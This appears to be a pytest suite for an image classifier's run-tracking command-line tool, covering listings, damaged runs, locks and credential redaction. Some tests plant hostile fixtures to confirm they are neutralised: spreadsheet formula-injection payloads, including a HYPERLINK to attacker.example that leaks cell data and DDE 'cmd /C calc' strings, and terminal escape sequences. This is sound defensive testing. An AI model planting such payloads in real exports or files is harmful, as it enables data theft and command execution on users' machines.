import csv
import fcntl
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from image_classifier.errors import RunDirectoryError
from image_classifier.locking import is_locked, lock_directory
from image_classifier.run_dir import STAGING_MARKER, RunDirectory
from image_classifier.tracking.file_registry import REGISTRY_FILE
from image_classifier.tracking.records import COMPLETED
from image_classifier.tracking.runs import build_parser, main
from image_classifier.tracking.runs_list import LIST_COLUMNS, TABLE_COLUMNS
from image_classifier.tracking.runs_models import MODEL_COLUMNS
from image_classifier.tracking.tables import FORMULA_STARTS, format_csv
from tests.conftest import command, run_command


def _metrics(experiments: Path, run: str) -> dict:
    return json.loads((experiments / "e" / run / "metrics.json").read_text())


def _run(capsys, *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    captured = capsys.readouterr()
    return code, captured.out, captured.err


_WITHOUT_TORCH = """
import json, sys
from image_classifier.tracking.runs import main
folder = sys.argv[1]
codes = []
for argv in (["--help"], ["list", "--no_such_option", "x"], ["list", "--experiments_folder", folder],
             ["show", "e/seed0", "--experiments_folder", folder], ["models", "--experiments_folder", folder],
             ["compare", "e/seed0", "e/seed1", "--experiments_folder", folder]):
    try:
        codes.append(main(argv))
    except SystemExit as exit:
        codes.append(exit.code)
print(json.dumps({"codes": codes, "torch": "torch" in sys.modules}))
"""


def test_list_show_compare_and_models_never_import_torch(trained_experiments):
    result = subprocess.run(
        [sys.executable, "-c", _WITHOUT_TORCH, str(trained_experiments)], capture_output=True, text=True, timeout=600
    )
    assert result.returncode == 0, result.stderr
    report = json.loads(result.stdout.strip().splitlines()[-1])
    assert report == {"codes": [0, 2, 0, 0, 0, 0], "torch": False}


def test_the_console_script_lists_runs(trained_experiments):
    result = run_command([command("image_classifier_runs"), "list", "--experiments_folder", str(trained_experiments)])
    assert result.returncode == 0, result.stderr
    header, *rows = result.stdout.splitlines()
    assert header.split() == list(TABLE_COLUMNS)
    assert [row.split()[:3] for row in rows] == [["e", "seed0", COMPLETED], ["e", "seed1", COMPLETED]]
    assert max(map(len, result.stdout.splitlines())) <= 100  # a terminal's width (it was about 190)


def test_list_wide_shows_every_column(trained_experiments, capsys):
    code, out, _ = _run(capsys, "list", "--experiments_folder", str(trained_experiments), "--wide")
    header, *rows = out.splitlines()
    assert code == 0 and header.split() == list(LIST_COLUMNS)
    run_json = json.loads((trained_experiments / "e" / "seed0" / "run.json").read_text())
    assert run_json["model_sha256"][:12] in rows[0] and "net" in rows[0].split()
    # CSV and JSON are for programs: every column, with or without --wide
    for output_format in ("csv", "json"):
        argv = ["list", "--experiments_folder", str(trained_experiments), "--format", output_format]
        assert _run(capsys, *argv)[1] == _run(capsys, *argv, "--wide")[1]


def test_list_as_csv_and_json_carries_each_runs_numbers(trained_experiments, capsys):
    code, out, _ = _run(capsys, "list", "--experiments_folder", str(trained_experiments), "--format", "csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert list(rows[0]) == list(LIST_COLUMNS)
    code, out, _ = _run(capsys, "list", "--experiments_folder", str(trained_experiments), "--format", "json")
    listed = json.loads(out)
    assert [row["run"] for row in listed] == [row["run"] for row in rows] == ["seed0", "seed1"]
    for row, csv_row in zip(listed, rows):
        run_json = json.loads((trained_experiments / "e" / row["run"] / "run.json").read_text())
        metrics = _metrics(trained_experiments, row["run"])
        assert row["test_accuracy"] == metrics["test_accuracy"] == float(csv_row["test_accuracy"])
        assert row["seed"] == run_json["arguments"]["seed"] == int(csv_row["seed"])
        assert (row["batch_size"], row["learning_rate"], row["momentum"]) == (10, 0.001, 0.9)
        assert row["epochs"] == len(metrics["history"]) == 2
        assert row["model_sha256"] == run_json["model_sha256"][:12]
        assert row["duration_s"] == pytest.approx(sum(entry["seconds"] for entry in metrics["history"]))
        assert row["started"] == run_json["started_at"] and row["status"] == COMPLETED and row["note"] is None


def test_list_sorts_and_filters(trained_experiments, capsys):
    accuracies = {run: _metrics(trained_experiments, run)["test_accuracy"] for run in ("seed0", "seed1")}
    for descending in (False, True):
        argv = ["list", "--experiments_folder", str(trained_experiments), "--sort", "test_accuracy", "--format", "json"]
        code, out, _ = _run(capsys, *argv, *(["--descending"] if descending else []))
        listed = [row["run"] for row in json.loads(out)]
        assert listed == sorted(accuracies, key=lambda run: accuracies[run], reverse=descending)
    code, out, _ = _run(
        capsys, "list", "--experiments_folder", str(trained_experiments), "--experiment", "other", "--format", "json"
    )
    assert (code, json.loads(out)) == (0, [])


def _damage(experiments: Path) -> dict[str, str]:
    """Run folders in every state a listing may meet, made from a real run; the status each must show."""
    source = experiments / "e" / "seed0"
    manifest = json.loads((source / "run.json").read_text())

    def copy(name: str, status: str | None = None) -> Path:
        folder = experiments / "e" / name
        shutil.copytree(source, folder)
        if status is not None:
            (folder / "run.json").write_text(json.dumps({**manifest, "status": status}))
        return folder

    for status in ("running", "interrupted", "failed", "locked"):
        folder = copy(f"{status}.incomplete", "running" if status == "locked" else status)
        (folder / "metrics.json").unlink()
    (experiments / "e" / f"seed0{STAGING_MARKER}123").mkdir()  # a run being created: not listed
    copy("starting.incomplete")
    (experiments / "e" / "starting.incomplete" / "run.json").unlink()
    half = copy("half_written")
    (half / "metrics.json").write_text((source / "metrics.json").read_text()[:40])
    copy("no_run_json")
    (experiments / "e" / "no_run_json" / "run.json").unlink()
    copy("not_an_object")
    (experiments / "e" / "not_an_object" / "run.json").write_text("[1, 2]")
    old = copy("old_version")
    old_manifest = {key: value for key, value in manifest.items() if key not in ("status", "model_sha256")}
    (old / "run.json").write_text(json.dumps(old_manifest))
    metrics = json.loads((source / "metrics.json").read_text())
    old_metrics = {"test_accuracy": metrics["test_accuracy"], "class_accuracy": metrics["class_accuracy"]}
    (old / "metrics.json").write_text(json.dumps(old_metrics))
    (experiments / "e" / "stray_file.txt").write_text("not a run")
    return {
        "running": "interrupted",  # run.json says running, but no process holds the run's lock
        "locked": "running",
        "interrupted": "interrupted",
        "failed": "failed",
        "starting": "interrupted",
        "half_written": "unreadable",
        "no_run_json": "unreadable",
        "not_an_object": "unreadable",
        "old_version": "completed",
        "seed0": "completed",
        "seed1": "completed",
    }


def test_unfinished_old_and_damaged_runs_are_listed_with_a_reason(experiments, capsys):
    expected = _damage(experiments)
    lock = lock_directory(experiments / "e" / "locked.incomplete")  # as the trainer holds it while it runs
    (experiments / REGISTRY_FILE).write_text("{not json")
    code, out, err = _run(capsys, "list", "--experiments_folder", str(experiments), "--format", "json")
    assert code == 0
    listed = {row["run"]: row for row in json.loads(out)}
    assert {run: row["status"] for run, row in listed.items()} == expected
    for run in expected:
        assert (listed[run]["note"] is None) == (run in ("seed0", "seed1")), (run, listed[run]["note"])
    assert "not valid JSON" in listed["half_written"]["note"] and "no run.json" in listed["no_run_json"]["note"]
    assert "older version" in listed["old_version"]["note"] and listed["old_version"]["test_accuracy"] is not None
    assert "--resume" in listed["interrupted"]["note"] and "killed" in listed["running"]["note"]
    assert "running it now" in listed["locked"]["note"]
    lock.release()
    assert "registered versions not shown" in err and "is damaged" in err  # a bad registry: one warning
    code, out, _ = _run(capsys, "list", "--experiments_folder", str(experiments))  # the table, too
    assert code == 0 and len(out.splitlines()) == 1 + len(expected)
    for run in expected:
        assert _run(capsys, "show", f"e/{run}", "--experiments_folder", str(experiments))[0] == 0
    code, out, _ = _run(
        capsys,
        "compare",
        "e/seed0",
        "e/half_written",
        "e/old_version",
        "e/running",
        "--experiments_folder",
        str(experiments),
    )
    assert code == 0 and "note: e/half_written is unreadable" in out


def test_show_prints_arguments_environment_epochs_and_files(trained_experiments, capsys):
    code, out, _ = _run(capsys, "show", "e/seed1", "--experiments_folder", str(trained_experiments), "--full")
    assert code == 0
    run_json = json.loads((trained_experiments / "e" / "seed1" / "run.json").read_text())
    for expected in (
        "run e/seed1",
        "arguments",
        "learning_rate",
        "environment",
        "versions.torch",
        "metrics per epoch",
        "test accuracy per class",
        "files (bytes)",
        "model.pth",
        run_json["model_sha256"],
        run_json["versions"]["torch"],
    ):
        assert expected in out, expected
    for dataset_file, digest in run_json["dataset"]["sha256"].items():
        assert dataset_file in out and digest in out
    code, out, _ = _run(capsys, "show", "e/seed1", "--experiments_folder", str(trained_experiments), "--format", "json")
    shown = json.loads(out)
    assert shown["run_json"] == run_json and shown["metrics"] == _metrics(trained_experiments, "seed1")
    assert shown["files"]["model.pth"] == (trained_experiments / "e" / "seed1" / "model.pth").stat().st_size


def test_show_fits_a_terminal_with_hashes_shortened_unless_full(trained_experiments, capsys):
    code, out, _ = _run(capsys, "show", "e/seed1", "--experiments_folder", str(trained_experiments))
    assert code == 0
    run_json = json.loads((trained_experiments / "e" / "seed1" / "run.json").read_text())
    lines = out.splitlines()
    assert len(lines) <= 50 and max(map(len, lines)) <= 100  # it was about 60 lines of up to 115 columns
    assert f"model_sha256   {run_json['model_sha256'][:12]}\n" in out and run_json["model_sha256"] not in out
    for digest in [*run_json["dataset"]["sha256"].values(), *(run_json.get("lock_files") or {}).values()]:
        assert digest[:12] not in out  # file hashes only with --full
    commit = run_json["code"]["commit"]
    for expected in (
        "learning_rate=0.001",
        f"versions.torch={run_json['versions']['torch']}",
        *([f"code.commit={commit[:12]}  "] if commit else []),
        "test accuracy per class",
        "model.pth=",
        "metrics per epoch",
    ):
        assert expected in out, expected
    full = _run(capsys, "show", "e/seed1", "--experiments_folder", str(trained_experiments), "--full")[1]
    assert run_json["model_sha256"] in full and len(full.splitlines()) > len(lines)


def test_show_hides_credentials_an_earlier_version_kept_in_run_json(experiments, capsys):
    """Before issue 14, a password holding '/' was kept whole in run.json's mlflow section."""
    run_json = experiments / "e" / "seed0" / "run.json"
    uri = "http://user-Qa1:pw-Zk9/pw-Xy7@127.0.0.1:5000"
    manifest = json.loads(run_json.read_text())
    manifest["mlflow"] = {"tracking_uri": uri, "run_id": None, "lost_calls": 3, "error": f"Invalid url: {uri}/api"}
    run_json.write_text(json.dumps(manifest))
    for output_format in ("text", "json"):
        code, out, _ = _run(
            capsys, "show", "e/seed0", "--format", output_format, "--experiments_folder", str(experiments)
        )
        assert code == 0 and "http://127.0.0.1:5000" in out
        assert not any(piece in out for piece in ("user-Qa1", "pw-Zk9", "pw-Xy7")), out


@pytest.mark.parametrize(
    "reference, message",
    [
        ("e/nope", "no run e/nope in .*runs of e: seed0, seed1"),
        ("e", "is not EXPERIMENT/RUN"),
        ("e/../x", "invalid run name"),
    ],
)
def test_show_of_an_unknown_run_is_one_error_line(trained_experiments, capsys, reference, message):
    code, out, err = _run(capsys, "show", reference, "--experiments_folder", str(trained_experiments))
    assert (code, out) == (1, "")
    assert len(err.strip().splitlines()) == 1 and err.startswith("error: ")
    assert __import__("re").search(message, err), err


def test_compare_shows_differences_side_by_side_and_plots_curves(trained_experiments, capsys, tmp_path):
    folder = str(trained_experiments)
    code, out, _ = _run(
        capsys, "compare", "e/seed0", "e/seed1", "--experiments_folder", folder, "--plot", str(tmp_path / "a.png")
    )
    assert code == 0
    model, arguments, finals, classes = out.split("\n\n")[:4]
    assert model == "model that differs\n  (none)"
    assert arguments.splitlines()[2].split() == ["seed", "0", "1"]  # the one argument that differs
    accuracy = [_metrics(trained_experiments, run)["test_accuracy"] for run in ("seed0", "seed1")]
    accuracy_line = next(line for line in finals.splitlines() if line.strip().startswith("test_accuracy"))
    assert accuracy_line.split() == [
        "test_accuracy",
        f"{accuracy[0]:.4g}",
        f"{accuracy[1]:.4g}",
        f"({accuracy[1] - accuracy[0]:+.4g})",
    ]
    assert "plane" in classes and "truck" in classes
    code, out, _ = _run(
        capsys, "compare", "e/seed0", "e/seed0", "--experiments_folder", folder, "--plot", str(tmp_path / "b.png")
    )
    assert "arguments that differ\n  (none)" in out
    first, same = (tmp_path / "a.png").read_bytes(), (tmp_path / "b.png").read_bytes()
    assert first[:8] == b"\x89PNG\r\n\x1a\n" and len(first) > 20_000
    assert first != same  # different runs, different curves


def test_compare_as_json_carries_what_the_text_shows(trained_experiments, capsys, tmp_path):
    folder = str(trained_experiments)
    argv = ["compare", "e/seed0", "e/seed1", "--experiments_folder", folder, "--format", "json"]
    code, out, err = _run(capsys, *argv, "--plot", str(tmp_path / "c.png"))
    assert code == 0 and "curves plotted to" in err  # stdout is the document alone
    document = json.loads(out)
    assert [run["run"] for run in document["runs"]] == ["e/seed0", "e/seed1"]
    assert document["model_differences"] == {} and document["argument_differences"] == {"seed": [0, 1]}
    metrics = [_metrics(trained_experiments, run) for run in ("seed0", "seed1")]
    assert document["final_metrics"]["test_accuracy"] == [m["test_accuracy"] for m in metrics]
    assert document["final_metrics"]["epochs"] == [2, 2]
    assert document["class_accuracy"]["plane"] == [m["class_accuracy"]["plane"] for m in metrics]
    assert (tmp_path / "c.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


def test_compare_needs_two_runs_and_a_writable_plot(trained_experiments, capsys, tmp_path):
    with pytest.raises(SystemExit) as exit_info:
        main(["compare", "e/seed0", "--experiments_folder", str(trained_experiments)])
    assert exit_info.value.code == 2
    code, _, err = _run(
        capsys,
        "compare",
        "e/seed0",
        "e/seed1",
        "--experiments_folder",
        str(trained_experiments),
        "--plot",
        str(tmp_path / "missing" / "x.png"),
    )
    assert code == 1 and "cannot write the plot" in err


def test_register_alias_and_models(experiments, capsys):
    folder = str(experiments)
    code, out, _ = _run(
        capsys, "register", "e/seed0", "--name", "cifar-net", "--alias", "production", "--experiments_folder", folder
    )
    assert code == 0 and "cifar-net version 1 (aliases: production)" in out and "models:/cifar-net/1" in out
    assert _run(capsys, "register", "e/seed1", "--name", "cifar-net", "--experiments_folder", folder)[0] == 0
    code, out, _ = _run(capsys, "alias", "cifar-net", "production", "2", "--experiments_folder", folder)
    assert code == 0 and "models:/cifar-net@production is now cifar-net version 2" in out
    code, out, _ = _run(capsys, "models", "--experiments_folder", folder, "--format", "json")
    models = json.loads(out)
    assert [list(row) for row in models] == [list(MODEL_COLUMNS)] * 2
    assert [(m["version"], m["aliases"], m["source_run"]) for m in models] == [
        (1, [], "e/seed0"),
        (2, ["production"], "e/seed1"),
    ]
    assert models[1]["test_accuracy"] == _metrics(experiments, "seed1")["test_accuracy"]
    code, out, _ = _run(capsys, "models", "cifar-net", "--experiments_folder", folder)
    assert code == 0 and len(out.splitlines()) == 3
    code, out, _ = _run(capsys, "list", "--experiments_folder", folder, "--format", "json")
    assert [row["versions"] for row in json.loads(out)] == [["cifar-net/1"], ["cifar-net/2@production"]]


@pytest.mark.parametrize(
    "argv, message",
    [
        (["register", "e/seed0", "--name", "bad name"], "invalid model name"),
        (["register", "e/nope", "--name", "m"], "no run e/nope"),
        (["alias", "nope", "prod", "1"], "no model named 'nope'"),
        (["models", "nope"], "no model named 'nope'"),
    ],
)
def test_registry_mistakes_are_one_error_line(experiments, capsys, argv, message):
    code, out, err = _run(capsys, *argv, "--experiments_folder", str(experiments))
    assert code == 1 and message in err and len(err.strip().splitlines()) == 1


def test_usage_errors_never_echo_a_value(capsys):
    for argv in (
        ["list", "--db_pass", "S3cret-value"],
        ["models", "--password=S3cret-value"],
        ["alias", "a", "b", "0"],
    ):
        with pytest.raises(SystemExit) as exit_info:
            main(argv)
        assert exit_info.value.code == 2
        assert "S3cret-value" not in capsys.readouterr().err
    help_text = build_parser().format_help()
    assert all(name in help_text for name in ("list", "show", "compare", "register", "alias", "models"))


# How `list` and `show` tell a running run from an interrupted one, as often as a process can ask.
_ASK_FOREVER = """
import sys
from pathlib import Path
from image_classifier.locking import is_locked
folder = Path(sys.argv[1])
print("asking", flush=True)
while True:
    is_locked(folder)
"""


def test_listing_never_makes_a_writer_fail(tmp_path):
    experiments = tmp_path / "experiments"
    with RunDirectory(experiments / "e" / "r") as run_dir:
        run_dir.create({"step": 0}, {"status": "interrupted"})  # an unfinished run nobody holds
    reader = subprocess.Popen(
        [sys.executable, "-c", _ASK_FOREVER, str(run_dir.work_dir)], stdout=subprocess.PIPE, text=True
    )
    try:
        assert reader.stdout.readline() == "asking\n"
        refused = []
        for _ in range(300):
            with RunDirectory(experiments / "e" / "r") as run_dir:
                try:
                    run_dir.open_for_resume()
                except RunDirectoryError as exc:
                    refused.append(str(exc))
        assert reader.poll() is None  # it listed the whole time
        assert refused == []
    finally:
        reader.kill()
        reader.wait()


_HOLD = """
import sys, time
from pathlib import Path
from image_classifier.locking import lock_directory
lock = lock_directory(Path(sys.argv[1]))
print("held", flush=True)
time.sleep(600)
"""


def test_asking_whether_a_run_is_held_takes_no_lock_when_the_kernel_lists_it(tmp_path, monkeypatch):
    """A lock /proc/locks lists is answered without locking; an unlisted one (free, or held from another pid
    namespace) is probed for an instant, which writers wait out (test_listing_never_makes_a_writer_fail)."""
    held, free = tmp_path / "held.incomplete", tmp_path / "free.incomplete"
    held.mkdir()
    free.mkdir()
    holder = subprocess.Popen([sys.executable, "-c", _HOLD, str(held)], stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline() == "held\n"
        with monkeypatch.context() as patched:

            def no_locking(fd, operation):
                raise AssertionError("a reader took a lock")

            patched.setattr(fcntl, "flock", no_locking)
            assert is_locked(held)
        assert not is_locked(free)
    finally:
        holder.kill()
        holder.wait()
    assert not is_locked(held)


def _strict(text: str):
    def refuse(constant):
        raise AssertionError(f"{constant} in the output: not strict JSON")

    return json.loads(text, parse_constant=refuse)


def test_runs_whose_files_hold_nan_read_everywhere_and_print_strict_json(experiments, capsys):
    # What older versions wrote for a diverged run: bare NaN and Infinity in metrics.json and run.json.
    run = experiments / "e" / "seed0"
    metrics = json.loads((run / "metrics.json").read_text())
    metrics["test_accuracy"] = float("nan")
    metrics["history"][0].update(train_loss=float("nan"), test_loss=float("inf"))
    (run / "metrics.json").write_text(json.dumps(metrics))
    manifest = json.loads((run / "run.json").read_text())
    manifest["arguments"]["learning_rate"] = float("-inf")
    (run / "run.json").write_text(json.dumps(manifest))
    assert "NaN" in (run / "metrics.json").read_text()
    folder = ("--experiments_folder", str(experiments))

    code, out, err = _run(capsys, "show", "e/seed0", "--format", "json", *folder)
    assert (code, err) == (0, "")
    shown = _strict(out)
    assert shown["metrics"]["test_accuracy"] is None and shown["metrics"]["history"][0]["test_loss"] is None
    assert shown["run_json"]["arguments"]["learning_rate"] is None
    code, out, _ = _run(capsys, "list", "--format", "json", "--sort", "test_accuracy", *folder)
    listed = {row["run"]: row for row in _strict(out)}
    assert listed["seed0"]["test_accuracy"] is None and listed["seed0"]["learning_rate"] is None
    for argv in (["show", "e/seed0"], ["list"], ["list", "--format", "csv"], ["compare", "e/seed0", "e/seed1"]):
        code, out, err = _run(capsys, *argv, *folder)
        assert code == 0 and "Traceback" not in err, (argv, err)
    code, out, err = _run(capsys, "register", "e/seed0", "--name", "m", *folder)
    assert code == 0, err
    code, out, _ = _run(capsys, "models", "--format", "json", *folder)
    assert _strict(out)[0]["test_accuracy"] is None


@given(text=st.text(max_size=12))
def test_csv_cells_are_never_formulas(text):
    rows = [{"experiment": "e", "run": "r", "note": text, "versions": [text, "x"], "seed": -3, "momentum": -0.5}]
    (row,) = csv.DictReader(io.StringIO(format_csv(rows, LIST_COLUMNS)))
    for cell in (row["note"], row["versions"]):
        assert not cell.startswith(FORMULA_STARTS), repr(cell)
    assert row["note"] in (text, "'" + text)  # nothing but the apostrophe is added
    assert (row["seed"], row["momentum"]) == ("-3", "-0.5")  # numbers stay numbers


def test_list_as_csv_quotes_formulas_from_run_files(experiments, capsys):
    run = experiments / "e" / "seed0"
    manifest = json.loads((run / "run.json").read_text())
    formulas = {
        "batch_size": '=HYPERLINK("http://attacker.example/?"&A1,"click")',
        "learning_rate": "+1+cmd|' /C calc'!A0",
        "momentum": "-2+3",
        "seed": "@SUM(A1:A9)",
    }
    manifest["arguments"].update(formulas)
    manifest["started_at"] = "\t=1+1"
    (run / "run.json").write_text(json.dumps(manifest))
    code, out, _ = _run(capsys, "list", "--format", "csv", "--experiments_folder", str(experiments))
    assert code == 0
    row = next(row for row in csv.DictReader(io.StringIO(out)) if row["run"] == "seed0")
    assert {key: row[key] for key in formulas} == {key: "'" + value for key, value in formulas.items()}
    assert row["started"] == "'\t=1+1"


_WITHOUT_MLFLOW = """
import sys
sys.modules["mlflow"] = None  # importing mlflow (or any part of it) now fails, as where it is not installed
from image_classifier.tracking.runs import main
sys.exit(main(sys.argv[1:]))
"""


@pytest.mark.parametrize("argv", [["list"], ["list", "--format", "json"], ["show", "e/seed0"]])
def test_list_and_show_work_with_a_tracking_uri_but_no_mlflow(trained_experiments, argv):
    env = {**os.environ, "MLFLOW_TRACKING_URI": "http://127.0.0.1:9"}
    result = subprocess.run(
        [sys.executable, "-c", _WITHOUT_MLFLOW, *argv, "--experiments_folder", str(trained_experiments)],
        capture_output=True,
        text=True,
        timeout=600,
        env=env,
    )
    assert result.returncode == 0, result.stderr
    assert "seed0" in result.stdout
    (warning,) = result.stderr.strip().splitlines()
    assert " WARNING " in warning and "MLflow is not installed" in warning


def test_models_with_a_tracking_uri_but_no_mlflow_is_one_error(trained_experiments):
    env = {**os.environ, "MLFLOW_TRACKING_URI": "http://127.0.0.1:9"}
    result = subprocess.run(
        [sys.executable, "-c", _WITHOUT_MLFLOW, "models", "--experiments_folder", str(trained_experiments)],
        capture_output=True,
        text=True,
        timeout=600,
        env=env,
    )
    assert result.returncode == 1
    (line,) = result.stderr.strip().splitlines()
    assert line.startswith("error: ") and "MLflow is not installed" in line


def test_text_from_run_files_cannot_drive_the_terminal(experiments, capsys):
    run = experiments / "e" / "seed0"
    manifest = json.loads((run / "run.json").read_text())
    manifest["arguments"]["\x1b[2Jkey"] = "\x1b]0;pwned\x07value\nsecond line"
    manifest["started_at"] = "\x1b[31m2024"
    (run / "run.json").write_text(json.dumps(manifest))
    folder = ("--experiments_folder", str(experiments))
    for argv in (["show", "e/seed0"], ["list"], ["compare", "e/seed0", "e/seed1"]):
        code, out, _ = _run(capsys, *argv, *folder)
        assert code == 0
        assert not any(char in out for char in "\x1b\x07\r"), argv
    code, out, _ = _run(capsys, "show", "e/seed0", *folder)
    assert "\\x1b[2Jkey" in out and "\\x1b]0;pwned\\x07value\\nsecond line" in out


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\0", "\r"])
def test_csv_quotes_every_start_asvs_names(start):
    """OWASP ASVS 1.2.10's list of characters that make a spreadsheet cell a formula: '=', '+', '-', '@', tab
    and the null character (and CR, which some readers drop)."""
    rows = [{"experiment": "e", "run": "r", "note": start + "cmd|' /C calc'!A0"}]
    (row,) = csv.DictReader(io.StringIO(format_csv(rows, LIST_COLUMNS)))
    assert row["note"] == "'" + start + "cmd|' /C calc'!A0"


def test_run_and_experiment_folder_names_cannot_drive_the_terminal(experiments, capsys):
    """A folder name is text from the disk too (an experiments folder copied from elsewhere): `show`'s title,
    `compare`'s column headers and notes show it escaped, in text and in every table."""
    evil = "x\x1b]0;pwned\x07\x1b[2J"
    (experiments / "e" / "seed0").rename(experiments / "e" / evil)
    shutil.copytree(experiments / "e", experiments / evil)
    (experiments / evil / "seed1" / "run.json").write_text("{")  # damaged: compare notes its reason
    folder = ("--experiments_folder", str(experiments))
    for argv in (
        ["show", f"e/{evil}"],
        ["show", f"e/{evil}", "--full"],
        ["list"],
        ["list", "--wide"],
        ["compare", f"e/{evil}", "e/seed1"],
        ["compare", f"{evil}/seed1", f"{evil}/{evil}"],
    ):
        code, out, err = _run(capsys, *argv, *folder)
        assert not any(char in out + err for char in "\x1b\x07\r"), argv


def test_show_lists_leaves_of_the_environment(experiments, capsys):
    """Empty dicts vanish and a key's trailing dots are dropped, as before `flatten` was shared (issue 17)."""
    run_json = experiments / "e" / "seed0" / "run.json"
    document = json.loads(run_json.read_text())
    document["versions"] = {"torch": "9.9", "empty": {}, "dotted.": {"y.": "two"}, "nested": {"deeper": {}}}
    document["dataset"] = {}
    run_json.write_text(json.dumps(document))
    assert main(["show", "e/seed0", "--experiments_folder", str(experiments), "--full"]) == 0
    full = capsys.readouterr().out
    environment = full.split("\nenvironment\n")[1].split("\n\n")[0].splitlines()
    assert [line.split() for line in environment if "versions" in line] == [
        ["versions.torch", "9.9"],
        ["versions.dotted..y", "two"],
    ]
    assert not any(line.lstrip().startswith("dataset") for line in environment)
    assert main(["show", "e/seed0", "--experiments_folder", str(experiments)]) == 0
    brief = capsys.readouterr().out
    assert "versions.torch=9.9  versions.dotted..y=two" in brief and "versions.empty" not in brief
